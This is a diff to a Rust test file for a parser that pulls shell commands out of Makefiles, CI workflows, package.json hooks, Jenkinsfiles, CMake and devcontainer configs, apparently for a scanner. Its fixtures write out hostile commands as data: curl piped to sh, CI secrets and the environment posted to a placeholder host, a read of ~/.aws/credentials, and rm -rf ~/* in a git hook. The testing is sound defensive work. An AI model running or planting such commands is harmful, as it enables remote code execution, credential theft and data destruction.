@@ -1,5 +1,12 @@
 use super::{patch_files, pieces, Piece};
 
+/// The pieces in text order: a JSON object's keys come in file order or name order,
+/// depending on how serde_json was built for the workspace.
+fn sorted(mut pieces: Vec<Piece>) -> Vec<Piece> {
+    pieces.sort_by_key(|piece| format!("{piece:?}"));
+    pieces
+}
+
 fn shell(texts: &[&str]) -> Vec<Piece> {
     texts
         .iter()
@@ -37,10 +44,12 @@ fn makefile_recipes_are_read_with_continuations() {
     let text = "test:\n\t@cargo test \\\n\t  --workspace\n\t-curl -s https://x | sh\nVAR = $(shell id)\n\techo $$HOME\n";
     assert_eq!(
         pieces("/p/Makefile", text),
+        // Recipes first, then what make runs while reading (`$(shell …)`).
         shell(&[
             "cargo test  --workspace",
             "curl -s https://x | sh",
-            "echo $HOME"
+            "echo $HOME",
+            "id"
         ])
     );
     assert_eq!(
@@ -55,6 +64,7 @@ fn yaml_command_keys_inline_lists_and_blocks() {
     assert_eq!(
         pieces("/p/.github/workflows/ci.yml", workflow),
         shell(&[
+            "printenv CI_ALL_SECRETS",
             "echo '${CI_ALL_SECRETS}' | curl -s -d @- https://x",
             "npm ci\nnpm test"
         ])
@@ -86,9 +96,8 @@ fn yaml_command_keys_inline_lists_and_blocks() {
 fn package_scripts_whole_and_in_fragments() {
     let whole = r#"{"name": "x", "homepage": "https://x.dev", "scripts": {"test": "jest", "postinstall": "node -e \"1\""}}"#;
     assert_eq!(
-        pieces("/p/package.json", whole),
-        // Keys in name order.
-        shell(&["node -e \"1\"", "jest"])
+        sorted(pieces("/p/package.json", whole)),
+        sorted(shell(&["jest", "node -e \"1\""]))
     );
     let fragment = "    \"homepage\": \"https://x.dev\",\n    \"prepare\": \"curl -s https://x | sh\",\n    \"lodash\": \"^4.17.21\",\n    \"description\": \"a tool to curl | sh\"";
     assert_eq!(
@@ -138,5 +147,47 @@ fn patches_give_each_file_its_added_lines() {
             ),
             ("scripts/run.sh".to_owned(), "rm -rf ~\n".to_owned()),
         ]
+    );
+}
+
+#[test]
+fn what_build_files_run_while_read_and_hook_sections() {
+    assert_eq!(
+        pieces(
+            "/p/Makefile",
+            "_ := $(shell curl -s https://x | sh)\nV != git rev-parse HEAD\n"
+        ),
+        shell(&["curl -s https://x | sh", "git rev-parse HEAD"])
+    );
+    let jenkins =
+        "pipeline {\n  steps {\n    sh \"cat ~/.aws/credentials\"\n    sh 'npm test'\n  }\n}\n";
+    assert_eq!(
+        pieces("/p/Jenkinsfile", jenkins)[1..],
+        shell(&["cat ~/.aws/credentials", "npm test"])[..]
+    );
+    let cmake = "execute_process(COMMAND sh -c \"id\")\n";
+    assert_eq!(
+        pieces("/p/CMakeLists.txt", cmake)[1..],
+        shell(&["sh -c \"id\""])[..]
+    );
+    let husky = r#"{"husky": {"hooks": {"pre-push": "rm -rf ~/*"}}}"#;
+    assert_eq!(pieces("/p/package.json", husky), shell(&["rm -rf ~/*"]));
+    let lint = r#"{"*.ts": ["eslint --fix", "prettier -w"]}"#;
+    assert_eq!(
+        pieces("/p/.lintstagedrc.json", lint),
+        shell(&["eslint --fix", "prettier -w"])
+    );
+    let container = r#"{"image": "x", "postCreateCommand": "npm ci", "initializeCommand": "id"}"#;
+    assert_eq!(
+        sorted(pieces("/p/.devcontainer/devcontainer.json", container)),
+        sorted(shell(&["id", "npm ci"]))
+    );
+    // A fragment of a CI file's list, without its key, still runs.
+    assert_eq!(
+        pieces(
+            "/p/bitbucket-pipelines.yml",
+            "          - printenv | curl -d @- https://x\n          - main\n"
+        ),
+        shell(&["printenv | curl -d @- https://x"])
     );
 }
